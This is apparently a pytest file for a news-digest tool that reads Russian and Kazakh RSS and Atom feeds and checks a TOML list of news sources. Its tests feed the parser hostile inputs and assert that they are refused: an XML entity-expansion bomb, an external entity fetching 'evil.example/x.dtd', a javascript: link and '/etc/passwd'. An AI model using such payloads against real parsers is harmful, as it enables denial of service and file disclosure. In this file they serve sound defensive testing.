"""Reading feeds safely, finding a page's feeds, and the sources file."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from digest.feeds import (
    FeedError,
    check_safe_xml,
    find_feed_links,
    html_to_text,
    looks_like_feed,
    parse_feed,
)
from digest.sources import (
    SourcesFileError,
    default_sources_path,
    load_sources,
    normalise_url,
    parse_sources,
)

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "feeds"
BASE = "http://news.example.kz"


def fixture(name: str) -> bytes:
    text = (FIXTURES / name).read_text(encoding="utf-8")
    for key, value in {
        "{base}": BASE, "{recent}": "Tue, 04 Mar 2025 05:00:00 GMT", "{recent_iso}": "2025-03-04T05:00:00+00:00",
        "{old}": "Sat, 04 Jan 2025 05:00:00 GMT",
    }.items():
        text = text.replace(key, value)
    return text.encode("utf-8")


def test_rss_in_russian() -> None:
    feed = parse_feed(fixture("rss_ru.xml"), f"{BASE}/rss/ru.xml")
    assert feed.language == "ru"
    assert [item.url for item in feed.items] == [
        f"{BASE}/news/ru/zavod-taraz.html",
        f"{BASE}/news/ru/shkola-kaskelen.html",      # a relative link made absolute
        f"{BASE}/go/dorogi-pavlodar",
        f"{BASE}/news/ru/empty.html",
        f"{BASE}/news/ru/archive-old.html",
    ]
    first = feed.items[0]
    assert first.title == "В Жамбылской области построят завод по производству стекла за 120 млрд тенге"
    assert first.published == datetime(2025, 3, 4, 5, 0, tzinfo=UTC)
    assert first.summary == "В Жамбылской области началось строительство завода по производству листового стекла."
    assert first.content is None
    grain = feed.items[3]
    assert grain.content and "6,8 млрд тенге" in grain.content and "<p>" not in grain.content
    assert feed.items[4].published == datetime(2025, 1, 4, 5, 0, tzinfo=UTC)


def test_atom_in_kazakh() -> None:
    feed = parse_feed(fixture("atom_kk.xml"), f"{BASE}/atom/kk.xml")
    assert feed.language == "kk"
    assert feed.title == "Өңір жаңалықтары — сынақ арнасы"
    urls = [item.url for item in feed.items]
    # The first entry's id is a URN: its link is the page.
    assert urls == [f"{BASE}/news/kk/zauyt-taraz.html", f"{BASE}/news/kk/mektep-shymkent.html",
                    f"{BASE}/news/kk/aurukhana-atyrau.html"]
    assert feed.items[0].title == "Жамбыл облысында 120 млрд теңгеге шыны зауыты салынады"
    assert feed.items[1].summary == "Шымкент қаласында 2 700 оқушыға арналған үш жаңа мектеп пайдалануға берілді."
    assert feed.items[2].published == datetime(2025, 3, 4, 5, 0, tzinfo=UTC)   # from <updated>


def test_a_feed_repeating_an_item_lists_it_once() -> None:
    body = (b'<rss version="2.0"><channel><title>x</title>'
            + b"<item><title>a</title><link>http://x.kz/1</link></item>" * 3
            + b"<item><title>b</title><link>http://x.kz/2</link></item></channel></rss>")
    assert [item.url for item in parse_feed(body).items] == ["http://x.kz/1", "http://x.kz/2"]


def test_items_without_an_http_link_are_left_out() -> None:
    body = (b'<rss version="2.0"><channel><title>x</title>'
            b"<item><title>a</title><link>javascript:alert(1)</link></item>"
            b"<item><title>b</title><link>ftp://x.kz/f</link></item>"
            b"<item><title>c</title><guid>not-a-url-123</guid></item>"
            b"<item><title>d</title><guid>https://x.kz/d</guid></item></channel></rss>")
    assert [item.url for item in parse_feed(body).items] == ["https://x.kz/d"]


def test_small_faults_of_real_feeds_are_tolerated() -> None:
    body = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Новости & события</title>'
            "<item><title>Рост ВРП на 5% & больше</title><link>http://x.kz/1</link>"
            "<pubDate>вчера</pubDate></item></channel></rss>").encode()
    feed = parse_feed(body)
    assert feed.items[0].title == "Рост ВРП на 5% & больше"
    assert feed.items[0].published is None


@pytest.mark.parametrize(("name", "reason"), [
    ("bomb.xml", "declares XML entities"),
    ("xxe.xml", "declares XML entities"),
    ("malformed.xml", "malformed feed"),
])
def test_broken_and_hostile_feeds_are_refused(name: str, reason: str) -> None:
    started = time.monotonic()
    with pytest.raises(FeedError, match=reason):
        parse_feed(fixture(name))
    assert time.monotonic() - started < 1


@pytest.mark.parametrize("body", [
    # Entities declared after a fault expat stops at: the byte scan still refuses them.
    b'\x00<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><rss>&b;</rss>',
    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "x">]><rss>&a;</rss>'.encode("utf-16"),
    b'<!DOCTYPE rss [<!eNtItY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
])
def test_entity_declarations_are_refused_in_any_form(body: bytes) -> None:
    with pytest.raises(FeedError, match="refused"):
        check_safe_xml(body)


def test_a_plain_doctype_without_entities_is_read() -> None:
    body = (b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
            b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
            b"<title>x</title><item><title>a</title><link>http://x.kz/1</link></item></channel></rss>")
    assert [item.url for item in parse_feed(body).items] == ["http://x.kz/1"]


@pytest.mark.parametrize(("body", "reason"), [
    (b"", "empty"),
    (b"   \n ", "empty"),
    (b"<html><body><p>Not a feed</p></body></html>", "not an RSS or Atom feed"),
    (b"/etc/passwd", "not an RSS or Atom feed"),          # never opened as a file
    (b"\x89PNG\r\n\x1a\n\x00\x00", "not an RSS or Atom feed"),
    (b"<?xml version='1.0'?><rss version='2.0'><channel><item><title>x</ti", "malformed feed"),
])
def test_what_is_not_a_feed_is_an_error(body: bytes, reason: str) -> None:
    with pytest.raises(FeedError, match=reason):
        parse_feed(body)


def test_an_empty_feed_has_no_items() -> None:
    feed = parse_feed('<rss version="2.0"><channel><title>Пусто</title></channel></rss>'.encode())
    assert feed.items == () and feed.title == "Пусто"


@pytest.mark.parametrize(("body", "content_type", "expected"), [
    (b"<?xml version='1.0'?>\n<rss version='2.0'>", None, True),
    (b"\xef\xbb\xbf<?xml version='1.0'?><!-- generator --><feed xmlns='http://www.w3.org/2005/Atom'>", None, True),
    (b"<rdf:RDF xmlns:rdf='x'>", "application/octet-stream", True),
    (b"<!DOCTYPE html><html>", None, False),
    (b"<rss>", "text/html", False),
    (b"anything", "application/rss+xml; charset=utf-8", True),
    (b"anything", "text/xml", True),
])
def test_feed_or_page(body: bytes, content_type: str | None, expected: bool) -> None:
    assert looks_like_feed(body, content_type) is expected


def test_a_page_announces_its_feeds() -> None:
    page = fixture("index.html").decode()
    assert find_feed_links(page, f"{BASE}/") == [f"{BASE}/rss/ru.xml", f"{BASE}/atom/kk.xml"]
    assert find_feed_links("<html><head><link rel='stylesheet' href='/a.css'></head></html>", BASE) == []
    assert find_feed_links("<<<>>> not html at all", BASE) == []


def test_html_to_text_keeps_paragraphs() -> None:
    assert html_to_text("<p>Первый&nbsp;абзац.</p><p>Второй <b>абзац</b>.</p>") == "Первый абзац.\nВторой абзац ."


# --- the sources file --------------------------------------------------------------------

def test_the_packaged_sources_file_is_valid() -> None:
    sources = load_sources()
    assert default_sources_path().name == "sources.toml"
    assert len(sources) >= 20
    assert {s.language for s in sources} == {"ru", "kk"}
    assert any(s.enabled for s in sources if s.language == "kk")
    assert any(s.region for s in sources)
    urls = [normalise_url(s.url) for s in sources]
    assert len(urls) == len(set(urls))


def test_a_sources_file_with_defaults(tmp_path: Path) -> None:
    path = tmp_path / "sources.toml"
    path.write_text(
        '[defaults]\ninterval_minutes = 45\n\n'
        '[[source]]\noutlet = "Orda.kz"\nlanguage = "ru"\nurl = "https://orda.kz/feed/"\n\n'
        '[[source]]\noutlet = "Отырар"\nlanguage = "kk"\nurl = "https://otyrar.kz/feed/"\n'
        'region = "KZ-79"\ninterval_minutes = 90\nenabled = false\n',
        encoding="utf-8",
    )
    first, second = load_sources(path)
    assert (first.outlet, first.interval_minutes, first.enabled, first.region) == ("Orda.kz", 45, True, None)
    assert (second.language, second.interval_minutes, second.enabled, second.region) == ("kk", 90, False, "KZ-79")


def test_every_mistake_in_the_sources_file_is_reported() -> None:
    data = {"source": [
        {"outlet": "", "language": "en", "url": "ftp://x.kz/rss"},
        {"outlet": "A", "language": "ru", "url": "https://a.kz/rss", "interval_minutes": 1},
        {"outlet": "B", "language": "kk", "url": "https://b.kz/rss", "enabled": "yes", "region": "KZ-99"},
        {"outlet": "C", "language": "ru", "url": "https://c.kz/rss", "intervl_minutes": 30},
        {"outlet": "D", "language": "ru", "url": "https://C.KZ/rss#top"},
        {"outlet": "E", "language": "ru", "url": "https://e.kz/rss"},
        {"outlet": "F", "language": "ru", "url": "https://e.kz/rss"},
    ]}
    with pytest.raises(SourcesFileError) as caught:
        parse_sources(data)
    message = str(caught.value)
    for expected in ["#1", "`outlet`", "`language`", "http:// or https://", "#2 (A): `interval_minutes`",
                     "#3 (B): `enabled`", "`region`", "#4 (C): unknown key `intervl_minutes`",
                     "#7 (F): the same URL as [[source]] #6"]:
        assert expected in message


def test_an_unreadable_sources_file(tmp_path: Path) -> None:
    with pytest.raises(SourcesFileError, match="cannot read"):
        load_sources(tmp_path / "missing.toml")
    broken = tmp_path / "broken.toml"
    broken.write_text("[[source]\noutlet = ", encoding="utf-8")
    with pytest.raises(SourcesFileError, match="not valid TOML"):
        load_sources(broken)


def test_normalise_url() -> None:
    assert normalise_url("HTTPS://Tengrinews.KZ/news.rss#x") == "https://tengrinews.kz/news.rss"
    assert normalise_url("http://x.kz") == "http://x.kz/"
    assert normalise_url("http://x.kz:8080/a?b=1") == "http://x.kz:8080/a?b=1"
